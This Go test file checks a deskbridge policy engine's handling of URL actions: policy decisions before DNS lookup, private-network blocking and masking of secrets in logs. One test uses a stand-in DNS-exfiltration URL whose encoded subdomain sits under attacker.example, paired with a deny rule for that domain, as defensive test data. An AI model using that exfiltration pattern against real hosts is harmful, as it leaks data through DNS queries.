package engine

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/deskbridge/deskbridge/decisionlog"
	"github.com/deskbridge/deskbridge/decisionlog/replay"
	"github.com/deskbridge/deskbridge/policy"
)

// steps records, in order, the decisions a host made and the names its
// resolver was asked: "decide" for a decision whose input has no
// input.url.ips (the first of a name), "decide+ips" for one that has
// them, "lookup NAME" for a query.
type steps struct {
	mu  sync.Mutex
	log []string
}

func (s *steps) add(step string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.log = append(s.log, step)
}

func (s *steps) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.log, ", ")
}

// lookups returns the names the resolver was asked.
func (s *steps) lookups() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []string
	for _, st := range s.log {
		if name, ok := strings.CutPrefix(st, "lookup "); ok {
			out = append(out, name)
		}
	}
	return out
}

// recordingResolver answers names from a table (any other name is not
// found) and records every name it is asked in steps.
type recordingResolver struct {
	answers map[string][]netip.Addr
	steps   *steps
}

func (r recordingResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.steps.add("lookup " + host)
	if a, ok := r.answers[host]; ok {
		return a, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

// orderDecider decides with the host's own policy and records each
// decision, and whether its input listed addresses, in steps.
type orderDecider struct {
	Decider
	steps *steps
}

func (d orderDecider) Decide(ctx context.Context, in policy.InputDocument) (policy.Decision, error) {
	m, err := in.Map()
	if err != nil {
		return policy.Decision{}, err
	}
	step := "decide"
	if u, _ := m["url"].(map[string]any); u["ips"] != nil {
		step = "decide+ips"
	}
	d.steps.add(step)
	return d.Decider.Decide(ctx, in)
}

// corpDomain is a team's policy that denies URL actions to one domain by
// its name: a domain deny list, which must stop the DNS query itself.
const corpDomain = `package deskbridge.policies.corp

import rego.v1

deny contains {"code": "PERMISSION_DENIED", "rule": "corp.domain", "priority": 5,
	"message": "The team's policy does not allow this domain."} if {
	input.request.action in {"download_asset", "open_in_browser", "preview_web"}
	endswith(input.url.ascii_host, ".attacker.example")
}
`

// resolveHost is a host with the default policy and corpDomain, whose
// resolver answers from answers and whose decisions and queries are
// recorded in the returned steps; open_in_browser and preview_web record
// the URLs they open instead of starting a browser.
func resolveHost(t *testing.T, answers map[string][]netip.Addr) (*testHost, *steps, *openRecorder) {
	t.Helper()
	th := newTestHost(t, map[string]any{"policy": map[string]any{"dir": policyDir(t, map[string]string{"corp.rego": corpDomain})}})
	st := &steps{}
	rec := &openRecorder{}
	th.h.decider = orderDecider{Decider: th.h.decider, steps: st}
	th.h.env.Resolver = recordingResolver{answers: answers, steps: st}
	th.h.env.Opener = rec
	return th, st, rec
}

// openRecorder is a browser opener that records the URLs it is given.
type openRecorder struct {
	mu   sync.Mutex
	urls []string
}

func (o *openRecorder) OpenURL(_ context.Context, u string) error {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.urls = append(o.urls, u)
	return nil
}

// urlCalls are the three URL actions with the arguments that make each
// reach url.
func urlCalls(th *testHost, url string) map[string]map[string]any {
	return map[string]map[string]any{
		"download_asset":  {"url": url, "destination": filepath.Join(th.ws, "a.png")},
		"open_in_browser": {"url": url},
		"preview_web":     {"url": url},
	}
}

// TestDeniedNameIsNeverResolved: a URL to a host the team's policy denies
// by name is refused by that rule, for each URL action, and its name is
// never looked up: the DNS query itself would carry data out
// (<data>.attacker.example). The logged refusal carries the URL, masked.
func TestDeniedNameIsNeverResolved(t *testing.T) {
	th, st, rec := resolveHost(t, nil)
	url := "https://c2VjcmV0LWRhdGE.attacker.example/x.png?token=CANARY-tok"
	for action, args := range urlCalls(th, url) {
		t.Run(action, func(t *testing.T) {
			r := th.callID(t, action, action, args)
			mustCode(t, r, "PERMISSION_DENIED")
			if r.Error.Rule != "corp.domain" {
				t.Fatalf("rule %q, want the team's corp.domain: %s", r.Error.Rule, r.Error.Message)
			}
			evs := loggedEvents(t, th.logPath, action)
			if len(evs) != 2 || evs[0]["outcome"] != "PERMISSION_DENIED" || evs[0]["path"] != decisionlog.PolicyPath {
				t.Fatalf("logged %v, want the policy's refusal and its outcome", evs)
			}
			wantLoggedURL(t, evs[0], "c2VjcmV0LWRhdGE.attacker.example")
		})
	}
	if names := st.lookups(); len(names) != 0 {
		t.Errorf("denied names were looked up: %q (steps: %s)", names, st)
	}
	if len(rec.urls) != 0 {
		t.Errorf("a denied URL was opened: %q", rec.urls)
	}
	if b, _ := os.ReadFile(th.logPath); strings.Contains(string(b), "CANARY") {
		t.Error("the URL's secret reached the decision log")
	}
}

// wantLoggedURL fails unless the logged decision ev carries the request's
// url argument and input.url, naming host.
func wantLoggedURL(t *testing.T, ev map[string]any, host string) {
	t.Helper()
	in, _ := ev["input"].(map[string]any)
	req, _ := in["request"].(map[string]any)
	args, _ := req["arguments"].(map[string]any)
	u, _ := in["url"].(map[string]any)
	arg, _ := args["url"].(string)
	if !strings.Contains(arg, host) || u["ascii_host"] != strings.ToLower(host) {
		t.Fatalf("the logged decision does not carry the URL of %s: arguments %v, url %v", host, args, u)
	}
}

// TestLookupComesAfterTheFirstDecision: a name is looked up only after a
// decision on an input without addresses allowed the request, then
// decided again on the addresses, which the executor gets; both
// decisions are logged, each with its outcome, and replay reproduces
// both.
func TestLookupComesAfterTheFirstDecision(t *testing.T) {
	th, st, rec := resolveHost(t, map[string][]netip.Addr{"docs.example": {netip.MustParseAddr("93.184.215.14")}})
	mustCode(t, th.callID(t, "two", "open_in_browser", map[string]any{"url": "https://docs.example/guide"}), "ok")
	if got, want := st.String(), "decide, lookup docs.example, decide+ips"; got != want {
		t.Fatalf("steps %q, want %q", got, want)
	}
	if len(rec.urls) != 1 || rec.urls[0] != "https://docs.example/guide" {
		t.Fatalf("opened %q", rec.urls)
	}
	evs := loggedEvents(t, th.logPath, "two")
	phases := make([]string, len(evs))
	for i, ev := range evs {
		phases[i] = fmt.Sprint(ev["phase"], ":", ev["outcome"])
	}
	if got := strings.Join(phases, " "); got != "decision:OK outcome:OK decision:OK outcome:OK" {
		t.Fatalf("logged %s", got)
	}
	first, _ := evs[0]["input"].(map[string]any)["url"].(map[string]any)
	second, _ := evs[2]["input"].(map[string]any)["url"].(map[string]any)
	if _, has := first["ips"]; has || second["ips"] == nil {
		t.Fatalf("first decision's url %v, second's %v: want addresses in the second only", first, second)
	}
	if d, _ := evs[1]["detail"].(map[string]any); d["resolved"] != true {
		t.Errorf("the first decision's outcome does not say the name resolved: %v", evs[1])
	}
	th.h.Close()
	rep, err := replay.Run(context.Background(), decisionlog.Read(th.logPath), replay.Options{Store: policy.StoreDir(th.logPath)})
	if err != nil {
		t.Fatal(err)
	}
	// The log holds this request only: both its decisions come out the same.
	if rep.Total != 2 || rep.Same != 2 {
		t.Errorf("replay: %d decisions, %d the same (changed %v, unreplayable %v), want both the same", rep.Total, rep.Same, rep.Changed, rep.Unreplayable)
	}
}

// TestSecondDecisionJudgesTheAddresses: a name the first decision allowed
// that resolves to a private address is refused by the second
// (network.private), and that refusal's log line carries the URL; a name
// that does not resolve is a refusal of the host, logged with the URL.
func TestSecondDecisionJudgesTheAddresses(t *testing.T) {
	th, st, rec := resolveHost(t, map[string][]netip.Addr{"intranet.example": {netip.MustParseAddr("10.0.0.5")}})
	for action, args := range urlCalls(th, "https://intranet.example/a.png?sig=CANARY-sig") {
		t.Run(action, func(t *testing.T) {
			r := th.callID(t, "p-"+action, action, args)
			mustCode(t, r, "PRIVATE_NETWORK_BLOCKED")
			if r.Error.Rule != "network.private" {
				t.Fatalf("rule %q", r.Error.Rule)
			}
			evs := loggedEvents(t, th.logPath, "p-"+action)
			if len(evs) != 4 || evs[2]["outcome"] != "PRIVATE_NETWORK_BLOCKED" {
				t.Fatalf("logged %v, want two decisions, the second refusing", evs)
			}
			wantLoggedURL(t, evs[2], "intranet.example")
		})
	}
	r := th.callID(t, "nx", "download_asset", urlCalls(th, "https://nowhere.example/a.png")["download_asset"])
	mustCode(t, r, "EXECUTION_FAILED")
	evs := loggedEvents(t, th.logPath, "nx")
	if len(evs) != 4 || evs[2]["path"] != decisionlog.HostPath {
		t.Fatalf("logged %v, want the first decision, then the host's refusal", evs)
	}
	wantLoggedURL(t, evs[2], "nowhere.example")
	if len(rec.urls) != 0 {
		t.Errorf("a refused URL was opened: %q (steps: %s)", rec.urls, st)
	}
	if entries, _ := os.ReadDir(th.ws); len(entries) != 0 {
		t.Errorf("a refused download left %d entries", len(entries))
	}
}

// TestRefusedURLIsLogged: a URL refused before any decision (it does not
// parse) is logged with the url argument, masked: the auditor sees what
// was asked, not its secrets.
func TestRefusedURLIsLogged(t *testing.T) {
	th, st, _ := resolveHost(t, nil)
	r := th.callID(t, "bad", "open_in_browser", map[string]any{"url": "https://ann:CANARY-pw@files.example/report"})
	mustCode(t, r, "INVALID_URL")
	evs := loggedEvents(t, th.logPath, "bad")
	if len(evs) != 2 || evs[0]["path"] != decisionlog.HostPath {
		t.Fatalf("logged %v, want the host's refusal", evs)
	}
	in, _ := evs[0]["input"].(map[string]any)
	args, _ := in["request"].(map[string]any)["arguments"].(map[string]any)
	if arg, _ := args["url"].(string); !strings.Contains(arg, "files.example/report") || strings.Contains(arg, "CANARY") {
		t.Fatalf("logged url argument %q, want the URL with its password masked", arg)
	}
	if names := st.lookups(); len(names) != 0 {
		t.Errorf("looked up %q", names)
	}
}
